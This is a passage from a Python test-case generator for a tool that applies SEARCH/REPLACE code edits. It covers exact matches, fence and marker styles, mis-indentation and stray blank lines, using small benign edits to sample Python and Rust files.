    simple("exact-py-one-line-in-class", C, {"app/models.py": PY_MODELS}, "app/models.py", old,
           new, "SQLite stores the timestamps with a trailing `Z`, which `fromisoformat` rejects "
           "before Python 3.11:")

    o1 = '    parser.add_argument("--verbose", action="store_true", help="log every step")\n'
    n1 = o1 + '    parser.add_argument("--dry-run", action="store_true", help="do not write files")\n'
    o2 = ('        result = run(args.task, model=args.model, max_steps=args.max_steps, '
          'verbose=args.verbose)\n')
    n2 = S(r'''
        result = run(
            args.task,
            model=args.model,
            max_steps=args.max_steps,
            verbose=args.verbose,
            dry_run=args.dry_run,
        )
''')
    case("exact-py-two-blocks-same-function-area", C, {"agent/cli.py": PY_CLI}, [
        "Add a `--dry-run` flag and pass it through to `run`.",
        Blk("agent/cli.py", o1, n1, AX),
        Blk("agent/cli.py", o2, n2, AX),
    ], [("agent/cli.py", o1, n1), ("agent/cli.py", o2, n2)])

    o1 = "    ToolFailed { tool: String, code: i32 },\n    Cancelled,\n"
    n1 = ("    ToolFailed { tool: String, code: i32 },\n    RateLimited { retry_after: u64 },\n"
          "    Cancelled,\n")
    o2 = '            AgentError::Cancelled => write!(f, "cancelled"),\n'
    n2 = ('            AgentError::RateLimited { retry_after } => {\n'
          '                write!(f, "rate limited, retry after {retry_after}s")\n'
          '            }\n' + o2)
    case("exact-rs-enum-variant-and-display", C, {"src/error.rs": RS_ERROR}, [
        "New error variant for HTTP 429 responses:",
        Blk("src/error.rs", o1, n1, AX),
        Blk("src/error.rs", o2, n2, AX),
    ], [("src/error.rs", o1, n1), ("src/error.rs", o2, n2)])

    old = S(r'''
pub fn total_area(shapes: &[Box<dyn Shape>]) -> f64 {
    shapes.iter().map(|s| s.area()).sum()
}
''')
    new = S(r'''
pub fn total_area(shapes: &[Box<dyn Shape>]) -> f64 {
    shapes.iter().map(|s| s.area()).sum()
}

pub fn total_perimeter(shapes: &[Box<dyn Shape>]) -> f64 {
    shapes.iter().map(|s| s.perimeter()).sum()
}
''')
    simple("exact-rs-append-function-at-eof", C, {"src/shapes.rs": RS_SHAPES}, "src/shapes.rs",
           old, new, "Add `total_perimeter` mirroring `total_area`:")

    old = '        "failed": "Échec ✗",\n'
    new = '        "failed": "Échec ✗ — voir le journal",\n'
    simple("exact-py-non-ascii-text", C, {"agent/messages.py": PY_MESSAGES}, "agent/messages.py",
           old, new, "Point French users to the log on failure:")

    o1 = S(r'''
    def deactivate(self, user_id: int) -> bool:
        user = self.get_user(user_id)
        if user is None:
            log.warning("deactivate: no user %s", user_id)
            return False
''')
    n1 = S(r'''
    def deactivate(self, user_id: int) -> bool:
        user = self.get_user(user_id)
        if user is None:
            log.warning("deactivate: no user %s", user_id)
            return False
        if not user.active:
            return True
''')
    o2 = S(r'''
    name: str
    active: bool = True
''')
    n2 = S(r'''
    name: str
    active: bool = True
    deactivated_at: Optional[datetime] = None
''')
    o3 = "from typing import Any\n"
    n3 = "from typing import Any, Optional\n"
    case("exact-py-two-files-three-blocks", C,
         {"app/services/users.py": PY_USERS, "app/models.py": PY_MODELS}, [
             "Make `deactivate` idempotent and track when a user was deactivated.",
             Blk("app/services/users.py", o1, n1, AX),
             Blk("app/models.py", o2, n2, AX),
             Blk("app/models.py", o3, n3, AX),
         ], [("app/services/users.py", o1, n1), ("app/models.py", o2, n2),
             ("app/models.py", o3, n3)])


# ======================================================================================
# fence_and_markers
# ======================================================================================

def fence_cases():
    C = "fence_and_markers"

    old = S(r'''
def mul(a: float, b: float) -> float:
    return a * b
''')
    new = S(r'''
def mul(a: float, b: float) -> float:
    return a * b


def power(base: float, exp: int) -> float:
    return base ** exp
''')
    simple("fm-no-fence", C, {"src/calc.py": PY_CALC}, "src/calc.py", old, new,
           "Adding `power` after `mul`.", fence=None)

    old = S(r'''
    pub fn peek(&self) -> Option<&T> {
        self.items.last()
    }
''')
    new = S(r'''
    pub fn peek(&self) -> Option<&T> {
        self.items.last()
    }

    pub fn peek_mut(&mut self) -> Option<&mut T> {
        self.items.last_mut()
    }
''')
    simple("fm-tilde-fence", C, {"src/stack.rs": RS_STACK}, "src/stack.rs", old, new,
           "Add a mutable peek:", fence="~~~")

    old = S(r'''
        while len(self._data) > self.capacity:
            self._data.popitem(last=False)
''')
    new = S(r'''
        while len(self._data) > self.capacity:
            evicted, _ = self._data.popitem(last=False)
            self.evictions += 1
''')
    simple("fm-markers-length-5", C, {"utils/cache.py": PY_CACHE}, "utils/cache.py", old, new,
           "Count evictions:", mk=(5, 5, 5))

    old = "            Some(c) => panic!(\"unexpected character {c:?}\"),\n"
    new = "            Some(c) => Token::Error(c),\n"
    simple("fm-markers-length-9", C, {"src/lexer.rs": RS_LEXER}, "src/lexer.rs", old, new,
           "Don't panic on bad input; emit an error token instead.", mk=(9, 9, 9))

    old = S(r'''
        if item.sku in self.items:
            self.items[item.sku].quantity += item.quantity
''')
    new = S(r'''
        if item.quantity < 0:
            raise ValueError("quantity must not be negative")
        if item.sku in self.items:
            self.items[item.sku].quantity += item.quantity
''')
    simple("fm-markers-mixed-lengths", C, {"app/inventory.py": PY_INVENTORY}, "app/inventory.py",
           old, new, "Reject negative quantities in `add`:", mk=(8, 5, 6))

    old = S(r'''
    def get_user_by_email(self, email: str) -> Optional[User]:
        row = self.db.fetch_one("SELECT * FROM users WHERE email = ?", (email,))
''')
    new = S(r'''
    def get_user_by_email(self, email: str) -> Optional[User]:
        email = email.strip().lower()
        row = self.db.fetch_one("SELECT * FROM users WHERE email = ?", (email,))
''')
    simple("fm-path-in-backticks", C, {"app/services/users.py": PY_USERS}, "app/services/users.py",
           old, new, "Normalise the e-mail before the lookup:", style="backtick")

    old = "            timeout: Duration::from_secs(60),\n"
    new = "            timeout: Duration::from_secs(120),\n"
    simple("fm-path-in-bold", C, {"src/config.rs": RS_CONFIG}, "src/config.rs", old, new,
           "Double the default timeout; the larger models are slow.", style="bold")

    old = S(r'''
impl From<io::Error> for AgentError {
    fn from(e: io::Error) -> Self {
        AgentError::Io(e)
    }
}
''')
    new = S(r'''
impl From<io::Error> for AgentError {
    fn from(e: io::Error) -> Self {
        if e.kind() == io::ErrorKind::TimedOut {
            return AgentError::Timeout(0);
        }
        AgentError::Io(e)
    }
}
''')
    simple("fm-path-as-heading", C, {"src/error.rs": RS_ERROR}, "src/error.rs", old, new,
           "Map I/O timeouts to our own variant.", style="hash")

    old = '    parser.add_argument("--max-steps", type=int, default=20, help="step budget")\n'
    new = '    parser.add_argument("--max-steps", type=int, default=40, help="step budget")\n'
    simple("fm-path-file-colon", C, {"agent/cli.py": PY_CLI}, "agent/cli.py", old, new,
           "Raise the default step budget to 40.", style="filecolon")

    old = S(r'''
def count_words(text: str) -> int:
    return len(text.split())
''')
    new = S(r'''
def count_words(text: str) -> int:
    return len(re.findall(r"\w+", text))
''')
    simple("fm-path-on-fence-line-python", C, {"utils/text.py": PY_TEXT}, "utils/text.py", old,
           new, "Count words with a regex so punctuation isn't counted:", style="fence")

    old = S(r'''
    pub fn new(task: impl Into<String>) -> Self {
        Trajectory { task: task.into(), steps: Vec::new() }
    }
''')
    new = S(r'''
    pub fn new(task: impl Into<String>) -> Self {
        Trajectory { task: task.into(), steps: Vec::with_capacity(32) }
    }
''')
    simple("fm-path-on-fence-line-rust", C, {"src/trajectory.rs": RS_TRAJ}, "src/trajectory.rs",
           old, new, "Pre-allocate the step vector:", style="fence")

    o1 = S(r'''
    fn area(&self) -> f64 {
        std::f64::consts::PI * self.radius * self.radius
    }
''')
    n1 = S(r'''
    fn area(&self) -> f64 {
        std::f64::consts::PI * self.radius.powi(2)
    }
''')
    o2 = S(r'''
    fn perimeter(&self) -> f64 {
        2.0 * std::f64::consts::PI * self.radius
    }
''')
    n2 = S(r'''
    fn perimeter(&self) -> f64 {
        std::f64::consts::TAU * self.radius
    }
''')
    case("fm-path-carried-over-to-second-block", C, {"src/shapes.rs": RS_SHAPES}, [
        "Tidy up the circle maths:",
        Blk("src/shapes.rs", o1, n1, AX),
        Blk("src/shapes.rs", o2, n2, AX, style="none"),
    ], [("src/shapes.rs", o1, n1), ("src/shapes.rs", o2, n2)])

    o1 = '    "Accept": "application/json",\n}\n'
    n1 = '    "Accept": "application/json",\n    "User-Agent": "trae-agent/0.3",\n}\n'
    o2 = "        time.sleep(delay)\n        delay *= 2\n"
    n2 = "        time.sleep(delay)\n        delay = min(delay * 2, 30.0)\n"
    o3 = S(r'''
def get_json(url: str, *, timeout: float = 30.0) -> dict:
''')
    n3 = S(r'''
def get_json(url: str, *, timeout: float = 10.0) -> dict:
''')
    case("fm-path-carried-over-three-blocks", C, {"client/http.py": PY_HTTP}, [
        "Three small fixes in the HTTP client:\n\n1. send a User-Agent\n2. cap the backoff\n"
        "3. shorter default timeout for GETs",
        Blk("client/http.py", o1, n1, AX),
        Blk("client/http.py", o2, n2, AX, style="none"),
        Blk("client/http.py", o3, n3, AX, style="none"),
    ], [("client/http.py", o1, n1), ("client/http.py", o2, n2), ("client/http.py", o3, n3)])

    old = S(r'''
def div(a: float, b: float) -> float:
    if b == 0:
        raise ZeroDivisionError("division by zero")
    return a / b
''')
    new = S(r'''
def div(a: float, b: float) -> float:
    if b == 0:
        raise ZeroDivisionError(f"cannot divide {a} by zero")
    return a / b
''')
    simple("fm-prose-and-shell-block-around", C, {"src/calc.py": PY_CALC}, "src/calc.py", old, new,
           "The error message should include the dividend so the log is useful.\n\n"
           "src/calc.py is the only file that needs to change:",
           "Then run the tests:\n\n```bash\npython -m pytest tests/test_calc.py -q\n```\n\n"
           "All tests should still pass.")

    old = S(r'''
    if let Err(msg) = cfg.validate() {
        eprintln!("invalid configuration: {msg}");
        return ExitCode::from(2);
    }
''')
    new = S(r'''
    if let Err(msg) = cfg.validate() {
        eprintln!("error: invalid configuration: {msg}");
        eprintln!("hint: check the AGENT_* environment variables");
        return ExitCode::from(2);
    }
''')
    simple("fm-fence-without-language", C, {"src/main.rs": RS_MAIN}, "src/main.rs", old, new,
           "Print a hint with the configuration error.", lang="")

    old = '            active=bool(row.get("active", 1)),\n'
    new = '            active=bool(row.get("active", 1)) and row.get("deleted_at") is None,\n'
    simple("fm-tilde-fence-no-language-bold-path", C, {"app/models.py": PY_MODELS},
           "app/models.py", old, new, "Soft-deleted users must not count as active:",
           style="bold", fence="~~~", lang="")

    o1 = 'LOG_LEVEL          = "INFO"\n'
    n1 = 'LOG_LEVEL          = "WARNING"\n'
    o2 = '    parser.add_argument("--verbose", action="store_true", help="log every step")\n'
    n2 = ('    parser.add_argument("-v", "--verbose", action="store_true", '
          'help="log every step")\n')
    case("fm-no-fences-two-files", C, {"agent/settings.py": PY_SETTINGS, "agent/cli.py": PY_CLI}, [
        "Quieter default logging, and a short `-v` flag to get it back:",
        Blk("agent/settings.py", o1, n1, AX, fence=None),
        Blk("agent/cli.py", o2, n2, AX, fence=None),
    ], [("agent/settings.py", o1, n1), ("agent/cli.py", o2, n2)])

    o1 = "    Star,\n    Slash,\n"
    n1 = "    Star,\n    Slash,\n    Caret,\n"
    o2 = S(r'''
    pub fn len(&self) -> usize {
        self.items.len()
    }
''')
    n2 = S(r'''
    #[must_use]
    pub fn len(&self) -> usize {
        self.items.len()
    }
''')
    case("fm-mixed-styles-two-files", C, {"src/lexer.rs": RS_LEXER, "src/stack.rs": RS_STACK}, [
        "Two unrelated tweaks.",
        Blk("src/lexer.rs", o1, n1, AX, style="backtick"),
        Blk("src/stack.rs", o2, n2, AX, style="hash", fence="~~~", mk=(6, 6, 6)),
    ], [("src/lexer.rs", o1, n1), ("src/stack.rs", o2, n2)])

    old = "        matches!(self, RunStatus::Finished | RunStatus::Aborted)\n"
    new = "        matches!(self, RunStatus::Finished | RunStatus::Aborted | RunStatus::Queued)\n"
    simple("fm-markers-length-6-rust", C, {"src/status.rs": RS_STATUS}, "src/status.rs", old, new,
           "Hmm, per the spec a queued run that was never started also counts as terminal here:",
           mk=(6, 6, 6))

    o1 = "    def __len__(self) -> int:\n        return len(self._data)\n"
    n1 = ("    def __len__(self) -> int:\n        return len(self._data)\n\n"
          "    def __repr__(self) -> str:\n"
          "        return f\"LRUCache(capacity={self.capacity}, size={len(self)})\"\n")
    o2 = '            raise ValueError("capacity must be positive")\n'
    n2 = '            raise ValueError(f"capacity must be positive, got {capacity}")\n'
    case("fm-no-fence-long-markers-carried-path", C, {"utils/cache.py": PY_CACHE}, [
        "utils/cache.py changes:",
        Blk("utils/cache.py", o1, n1, AX, fence=None, mk=(9, 9, 9)),
        Blk("utils/cache.py", o2, n2, AX, fence=None, mk=(9, 9, 9), style="none"),
    ], [("utils/cache.py", o1, n1), ("utils/cache.py", o2, n2)])


# ======================================================================================
# indentation
# ======================================================================================

def ind(name, files, path, old, new, op, d, prose, expect=AI, **kw):
    """SEARCH/REPLACE are old/new mis-indented by d (op='over' adds d, 'under' removes d)."""
    f = shift if op == "over" else unshift
    simple(name, "indentation", files, path, old, new, prose, search=f(old, d),
           replace=f(new, d), expect=expect, **kw)


def indentation_cases():
    C = "indentation"
    SP2, SP4, SP8, SP12 = "  ", "    ", " " * 8, " " * 12

    old = S(r'''
        if item.quantity < quantity:
            raise OutOfStock(f"only {item.quantity} of {sku} left")
        item.quantity -= quantity
        return item
''')
    new = S(r'''
        if quantity <= 0:
            raise ValueError("quantity must be positive")
        if item.quantity < quantity:
            raise OutOfStock(f"only {item.quantity} of {sku} left")
        item.quantity -= quantity
        return item
''')
    ind("ind-py-over-by-4-method-body", {"app/inventory.py": PY_INVENTORY}, "app/inventory.py",
        old, new, "over", SP4, "Validate the quantity in `remove`:")

    old = S(r'''
    def find(self, name: str) -> Optional[Item]:
        for item in self.items.values():
            if item.name == name:
                return item
        return None
''')
    new = S(r'''
    def find(self, name: str) -> Optional[Item]:
        wanted = name.casefold()
        for item in self.items.values():
            if item.name.casefold() == wanted:
                return item
        return None
''')
    ind("ind-py-under-by-4-whole-method", {"app/inventory.py": PY_INVENTORY}, "app/inventory.py",
        old, new, "under", SP4, "Make `Inventory.find` case-insensitive:")

    old = S(r'''
    def put(self, key: Hashable, value: Any) -> None:
        if key in self._data:
            self._data.move_to_end(key)
        self._data[key] = (time.monotonic(), value)
''')
    new = S(r'''
    def put(self, key: Hashable, value: Any) -> None:
        if value is None:
            raise ValueError("None cannot be cached")
        if key in self._data:
            self._data.move_to_end(key)
        self._data[key] = (time.monotonic(), value)
''')
    ind("ind-py-over-by-2", {"utils/cache.py": PY_CACHE}, "utils/cache.py", old, new, "over", SP2,
        "Refuse to cache `None`, since `get` uses it as the default:")

    old = S(r'''
    def clear(self) -> None:
        self._data.clear()
        self.hits = 0
        self.misses = 0
''')
    new = S(r'''
    def clear(self, reset_stats: bool = True) -> None:
        self._data.clear()
        if reset_stats:
            self.hits = 0
            self.misses = 0
''')
    ind("ind-py-under-by-2", {"utils/cache.py": PY_CACHE}, "utils/cache.py", old, new, "under",
        SP2, "Allow clearing without resetting the statistics:")

    old = S(r'''
        user = self.get_user(user_id)
        if user is None:
            log.warning("deactivate: no user %s", user_id)
            return False
''')
    new = S(r'''
        user = self.get_user(user_id)
        if user is None:
            log.info("deactivate: user %s does not exist, nothing to do", user_id)
            return False
''')
    ind("ind-py-over-by-8", {"app/services/users.py": PY_USERS}, "app/services/users.py", old,
        new, "over", SP8, "Missing users are expected here; downgrade the log level.")

    old = S(r'''
            if exc.code < 500 or attempt == retries:
                raise HttpError(exc.code, body) from exc
            log.warning("server error %s, retrying in %.1fs", exc.code, delay)
''')
    new = S(r'''
            retryable = exc.code >= 500 or exc.code == 429
            if not retryable or attempt == retries:
                raise HttpError(exc.code, body) from exc
            log.warning("HTTP %s, retrying in %.1fs", exc.code, delay)
''')
    ind("ind-py-under-by-8-nested", {"client/http.py": PY_HTTP}, "client/http.py", old, new,
        "under", SP8, "Also retry on 429 Too Many Requests:")

    old = tabify(S(r'''
    def add_row(self, name, value):
        if value is None:
            value = 0
        self.rows.append((name, value))
'''))
    new = tabify(S(r'''
    def add_row(self, name, value):
        if value is None:
            value = 0
        if not isinstance(value, (int, float)):
            raise TypeError(f"value for {name!r} must be a number")
        self.rows.append((name, value))
'''))
    ind("ind-tab-indented-file-one-tab-missing", {"legacy/report.py": PY_REPORT_TABS},
        "legacy/report.py", old, new, "under", "\t", "Type-check the values in `add_row`:")

    old = tabify(S(r'''
        with open(path, "w", newline="") as fh:
            writer = csv.writer(fh)
            writer.writerow(["name", "value"])
'''))
    new = tabify(S(r'''
        with open(path, "w", newline="", encoding="utf-8") as fh:
            writer = csv.writer(fh)
            writer.writerow(["name", "value"])
'''))
    ind("ind-tab-indented-file-one-tab-extra", {"legacy/report.py": PY_REPORT_TABS},
        "legacy/report.py", old, new, "over", "\t", "Write the CSV as UTF-8 explicitly:")

    old = S(r'''
    pub fn pop(&mut self) -> Option<T> {
        self.items.pop()
    }
''')
    new = S(r'''
    pub fn pop(&mut self) -> Option<T> {
        self.items.pop()
    }

    pub fn pop_n(&mut self, n: usize) -> Vec<T> {
        let keep = self.items.len().saturating_sub(n);
        self.items.split_off(keep)
    }
''')
    ind("ind-rs-under-by-4-impl-method", {"src/stack.rs": RS_STACK}, "src/stack.rs", old, new,
        "under", SP4, "Add `pop_n` right after `pop`:")

    old = S(r'''
        if self.max_tokens == 0 {
            return Err("max_tokens must be positive".into());
        }
''')
    new = S(r'''
        if self.max_tokens == 0 || self.max_tokens > 200_000 {
            return Err(format!("max_tokens {} out of range", self.max_tokens));
        }
''')
    ind("ind-rs-over-by-4", {"src/config.rs": RS_CONFIG}, "src/config.rs", old, new, "over", SP4,
        "Bound `max_tokens` from above as well:")

    old = S(r'''
            AgentError::Timeout(secs) => write!(f, "timed out after {secs}s"),
            AgentError::ToolFailed { tool, code } => {
                write!(f, "tool {tool} failed with exit code {code}")
            }
''')
    new = S(r'''
            AgentError::Timeout(secs) => write!(f, "timed out after {secs}s"),
            AgentError::ToolFailed { tool, code } => {
                write!(f, "tool `{tool}` failed (exit code {code})")
            }
''')
    ind("ind-rs-under-by-8-match-arms", {"src/error.rs": RS_ERROR}, "src/error.rs", old, new,
        "under", SP8, "Quote the tool name in the message:")

    old = S(r'''
            Some('(') => Token::LParen,
            Some(')') => Token::RParen,
''')
    new = S(r'''
            Some('(') | Some('[') => Token::LParen,
            Some(')') | Some(']') => Token::RParen,
''')
    ind("ind-rs-match-arms-at-column-zero", {"src/lexer.rs": RS_LEXER}, "src/lexer.rs", old, new,
        "under", SP12, "Treat square brackets like parentheses:")

    old = S(r'''
    fn area(&self) -> f64 {
        std::f64::consts::PI * self.radius * self.radius
    }
''')
    new = S(r'''
    fn area(&self) -> f64 {
        std::f64::consts::PI * self.radius.powi(2)
    }
''')
    ind("ind-rs-over-by-2-trait-impl", {"src/shapes.rs": RS_SHAPES}, "src/shapes.rs", old, new,
        "over", SP2, "Use `powi` for the circle area:")

    old = S(r'''
        entries = sorted(p.name + ("/" if p.is_dir() else "") for p in path.iterdir())
        return ToolResult.ok("\n".join(entries))
''')
    new = S(r'''
        entries = sorted(p.name + ("/" if p.is_dir() else "") for p in path.iterdir())
        entries = [e for e in entries if not e.startswith(".")]
        return ToolResult.ok("\n".join(entries) or "(empty directory)")
''')
    ind("ind-big-py-under-by-4", {"agent/tools.py": BIG_PY}, "agent/tools.py", old, new, "under",
        SP4, "Hide dotfiles in `list_dir` and say when a directory is empty:")

    old = S(r'''
            Command::Undo(n) => {
                let undone = session.undo(*n).map_err(|e| e.to_string())?;
                session.print(&format!("reverted {undone} edit(s)"));
                Ok(Outcome::Continue)
            }
''')
    new = S(r'''
            Command::Undo(n) => {
                let undone = session.undo(*n).map_err(|e| e.to_string())?;
                if undone < *n {
                    session.print(&format!("only {undone} edit(s) could be reverted"));
                } else {
                    session.print(&format!("reverted {undone} edit(s)"));
                }
                Ok(Outcome::Continue)
            }
''')
    ind("ind-big-rs-under-by-8", {"src/commands.rs": BIG_RS}, "src/commands.rs", old, new,
        "under", SP8, "Report partial undos:")

    old = S(r'''
    try:
        result = run(args.task, model=args.model, max_steps=args.max_steps, verbose=args.verbose)
    except KeyboardInterrupt:
        print("interrupted", file=sys.stderr)
        return 130
''')
    new = S(r'''
    try:
        result = run(args.task, model=args.model, max_steps=args.max_steps, verbose=args.verbose)
    except KeyboardInterrupt:
        print("interrupted", file=sys.stderr)
        return 130
    except TimeoutError as exc:
        if args.verbose:
            print(f"timed out: {exc}", file=sys.stderr)
        else:
            print("timed out", file=sys.stderr)
        return 124
''')
    ind("ind-py-over-by-4-replace-adds-nesting", {"agent/cli.py": PY_CLI}, "agent/cli.py", old,
        new, "over", SP4, "Handle timeouts with exit code 124 like `timeout(1)`:")

    old = S(r'''
    def to_dict(self) -> dict[str, Any]:
        return {
            "id": self.id,
            "email": self.email,
            "name": self.name,
            "active": self.active,
        }
''')
    new = S(r'''
    def to_dict(self, *, public: bool = False) -> dict[str, Any]:
        data = {
            "id": self.id,
            "name": self.name,
            "active": self.active,
        }

        if not public:
            data["email"] = self.email

        return data
''')
    ind("ind-py-under-by-4-replace-has-blank-lines", {"app/models.py": PY_MODELS},
        "app/models.py", old, new, "under", SP4, "Don't leak e-mail addresses in public payloads:")

    old = S(r'''
    @classmethod
    def from_row(cls, row: dict[str, Any]) -> "Team":
        return cls(
            id=row["id"],
''')
    new = S(r'''
    @classmethod
    def from_row(cls, row: dict[str, Any]) -> "Team":
        if "id" not in row:
            raise KeyError("team row without id")
        return cls(
            id=row["id"],
''')
    ind("ind-py-under-by-4-decorated-classmethod", {"app/models.py": PY_MODELS}, "app/models.py",
        old, new, "under", SP4, "Fail early on malformed team rows:")

    old = S(r'''
    #[test]
    fn lexes_number() {
        let mut lx = Lexer::new("42");
        assert_eq!(lx.next_token(), Token::Number(42.0));
''')
    new = S(r'''
    #[test]
    fn lexes_number() {
        let mut lx = Lexer::new("42.5");
        assert_eq!(lx.next_token(), Token::Number(42.5));
''')
    ind("ind-rs-under-by-4-test-fn", {"src/lexer.rs": RS_LEXER}, "src/lexer.rs", old, new, "under",
        SP4, "Exercise the decimal point in the number test:")

    # exact match (function body at indent 4) must win over the same lines at indent 8 in the
    # method, which only the indentation fallback would find.
    old = S(r'''
    name = name.strip().lower()
    return _INVALID.sub("_", name)
''')
    new = S(r'''
    name = name.strip().lower()
    return _INVALID.sub("_", name).strip("_")
''')
    case("ind-exact-match-preferred-over-offset-match", C, {"agent/names.py": PY_NAMES}, [
        "Strip leading/trailing underscores in the module-level `_clean`:",
        Blk("agent/names.py", old, new, AX, allow_multi=True),
    ], [("agent/names.py", old, new)])

    o1 = S(r'''
        stamp, value = entry
        if self.ttl is not None and time.monotonic() - stamp > self.ttl:
            del self._data[key]
''')
    n1 = S(r'''
        stamp, value = entry
        if self._expired(stamp):
            del self._data[key]
''')
    o2 = S(r'''
    def __len__(self) -> int:
        return len(self._data)
''')
    n2 = S(r'''
    def _expired(self, stamp: float) -> bool:
        return self.ttl is not None and time.monotonic() - stamp > self.ttl

    def __len__(self) -> int:
        return len(self._data)
''')
    case("ind-py-over-by-4-two-blocks", C, {"utils/cache.py": PY_CACHE}, [
        "Extract the expiry check into a helper:",
        Blk("utils/cache.py", shift(o1, SP4), shift(n1, SP4), AI),
        Blk("utils/cache.py", shift(o2, SP4), shift(n2, SP4), AI),
    ], [("utils/cache.py", o1, n1), ("utils/cache.py", o2, n2)])

    old = S(r'''
    def get_team(self, team_id: int) -> Optional[Team]:
        row = self.db.fetch_one("SELECT * FROM teams WHERE id = ?", (team_id,))
        if row is None:
            return None
        return Team.from_row(row)
''')
    new = S(r'''
    def get_team(self, team_id: int) -> Optional[Team]:
        row = self.db.fetch_one("SELECT * FROM teams WHERE id = ?", (team_id,))
        return None if row is None else Team.from_row(row)
''')
    ind("ind-py-under-by-4-shorter-replace", {"app/services/users.py": PY_USERS},
        "app/services/users.py", old, new, "under", SP4, "Simplify `get_team`:")

    old = S(r'''
    pub fn record(&mut self, tool: &str, input: &str, output: &str, ok: bool) {
        let index = self.steps.len();
''')
    new = S(r'''
    pub fn record(&mut self, tool: &str, input: &str, output: &str, ok: bool) {
        const MAX_OUTPUT: usize = 16 * 1024;
        let output = if output.len() > MAX_OUTPUT { &output[..MAX_OUTPUT] } else { output };
        let index = self.steps.len();
''')
    ind("ind-rs-under-by-4-signature-and-first-line", {"src/trajectory.rs": RS_TRAJ},
        "src/trajectory.rs", old, new, "under", SP4, "Cap the recorded output at 16 KiB:")

    old = S(r'''
    if isinstance(default, bool):
        return raw.lower() in ("1", "true", "yes")
''')
    new = S(r'''
    if isinstance(default, bool):
        return raw.strip().lower() in ("1", "true", "yes", "on")
''')
    ind("ind-py-over-by-8-module-function", {"agent/settings.py": PY_SETTINGS},
        "agent/settings.py", old, new, "over", SP8, "Accept `on` and surrounding spaces:")

    old = S(r'''
    pub fn is_terminal(self) -> bool {
        matches!(self, StepStatus::Succeeded | StepStatus::Failed)
    }
''')
    new = S(r'''
    pub fn is_terminal(self) -> bool {
        matches!(self, StepStatus::Succeeded | StepStatus::Failed)
    }

    pub fn is_success(self) -> bool {
        self == StepStatus::Succeeded
    }
''')
    ind("ind-rs-over-by-4-second-impl", {"src/status.rs": RS_STATUS}, "src/status.rs", old, new,
        "over", SP4, "Add `is_success` to `StepStatus`:")


# ======================================================================================
# blank_lines
# ======================================================================================

def blank_cases():
    C = "blank_lines"

    old = "    def __init__(self):\n        self._items = {}\n"
    new = "    def __init__(self):\n        self._items = {}\n        self._aliases = {}\n"
    simple("bl-extra-leading-blank-after-class-line", C, {"agent/names.py": PY_NAMES},
           "agent/names.py", old, new, "Keep an alias table in the registry:",
           search="\n" + old, expect=AB)

    old = S(r'''
    if b == 0:
        raise ZeroDivisionError("division by zero")
''')
    new = S(r'''
    if b == 0:
        return math.inf if a > 0 else -math.inf if a < 0 else math.nan
''')
    simple("bl-extra-trailing-blank-inside-function", C, {"src/calc.py": PY_CALC}, "src/calc.py",
           old, new, "Follow IEEE semantics instead of raising:", search=old + "\n", expect=AB)

    old = "    pub fn new() -> Self {\n        Stack { items: Vec::new() }\n    }\n"
    new = "    pub fn new() -> Self {\n        Stack { items: Vec::with_capacity(16) }\n    }\n"
    simple("bl-extra-leading-blank-in-both-search-and-replace", C, {"src/stack.rs": RS_STACK},
           "src/stack.rs", old, new, "Pre-allocate a little:", search="\n" + old,
           replace="\n" + new, expect=AB)

    old = S(r'''
    pub fn is_empty(&self) -> bool {
        self.items.is_empty()
    }
''')
    new = S(r'''
    pub fn is_empty(&self) -> bool {
        self.items.len() == 0
    }
''')
    simple("bl-extra-trailing-blank-in-both-search-and-replace", C, {"src/stack.rs": RS_STACK},
           "src/stack.rs", old, new, "Equivalent, but clippy in our CI config prefers this form:",
           search=old + "\n", replace=new + "\n", expect=AB)

    old = "import json\nimport logging\n"
    new = "import json\nimport logging\nimport random\n"
    simple("bl-leading-blank-at-start-of-file", C, {"client/http.py": PY_HTTP}, "client/http.py",
           old, new, "Import `random` for jitter:", search="\n" + old, expect=AB)

    old = "    return math.sqrt(var)\n"
    new = S(r'''
    return math.sqrt(var)


def median(values: list[float]) -> float:
    ordered = sorted(values)
    mid = len(ordered) // 2
    if len(ordered) % 2:
        return ordered[mid]
    return (ordered[mid - 1] + ordered[mid]) / 2
''')
    simple("bl-trailing-blank-at-end-of-file", C, {"src/calc.py": PY_CALC}, "src/calc.py", old,
           new, "Add `median` at the end of the module:", search=old + "\n", expect=AB)

    old = '        row = self.db.fetch_one("SELECT * FROM teams WHERE id = ?", (team_id,))\n'
    new = ('        row = self.db.fetch_one("SELECT * FROM teams WHERE id = ? AND deleted = 0", '
           '(team_id,))\n')
    simple("bl-leading-and-trailing-blank", C, {"app/services/users.py": PY_USERS},
           "app/services/users.py", old, new, "Ignore deleted teams:", search="\n" + old + "\n",
           expect=AB)

    old = "    pub fn from_env() -> Self {\n        let mut cfg = Config::default();\n"
    new = S(r'''
    pub fn from_env() -> Self {
        let mut cfg = Config::default();
        if let Ok(ws) = std::env::var("AGENT_WORKSPACE") {
            cfg.workspace = PathBuf::from(ws);
        }
''')
    simple("bl-rs-extra-leading-blank-after-impl-line", C, {"src/config.rs": RS_CONFIG},
           "src/config.rs", old, new, "Read the workspace from the environment too:",
           search="\n" + old, expect=AB)

    old = "    fn from(e: io::Error) -> Self {\n        AgentError::Io(e)\n    }\n"
    new = ("    fn from(e: io::Error) -> Self {\n        log::debug!(\"i/o error: {e}\");\n"
           "        AgentError::Io(e)\n    }\n")
    simple("bl-rs-extra-trailing-blank-before-closing-brace", C, {"src/error.rs": RS_ERROR},
           "src/error.rs", old, new, "Log conversions at debug level:", search=old + "\n",
           expect=AB)

    old = S(r'''
        stamp, value = entry
        if self.ttl is not None and time.monotonic() - stamp > self.ttl:
''')
    new = S(r'''
        stamp, value = entry
        if self.ttl is not None and time.monotonic() - stamp >= self.ttl:
''')
    simple("bl-leading-whitespace-only-line", C, {"utils/cache.py": PY_CACHE}, "utils/cache.py",
           old, new, "Expire entries exactly at the TTL:", search="        \n" + old, expect=AB)

    o1 = '    text = unicodedata.normalize("NFKD", text).encode("ascii", "ignore").decode()\n'
    n1 = '    text = unicodedata.normalize("NFKC", text).encode("ascii", "ignore").decode()\n'
    o2 = "    if len(text) <= width:\n        return text\n"
    n2 = "    if width <= 0:\n        return \"\"\n    if len(text) <= width:\n        return text\n"
    case("bl-two-blocks-with-trailing-blanks", C, {"utils/text.py": PY_TEXT}, [
        "Two fixes in `utils/text.py`:",
        Blk("utils/text.py", o1 + "\n", n1, AB),
        Blk("utils/text.py", o2 + "\n", n2, AB),
    ], [("utils/text.py", o1, n1), ("utils/text.py", o2, n2)])

    old = S(r'''
        if not path.exists():
            return ToolResult.error(f"no such file: {args['path']}")
        path.unlink()
''')
    new = S(r'''
        if not path.exists():
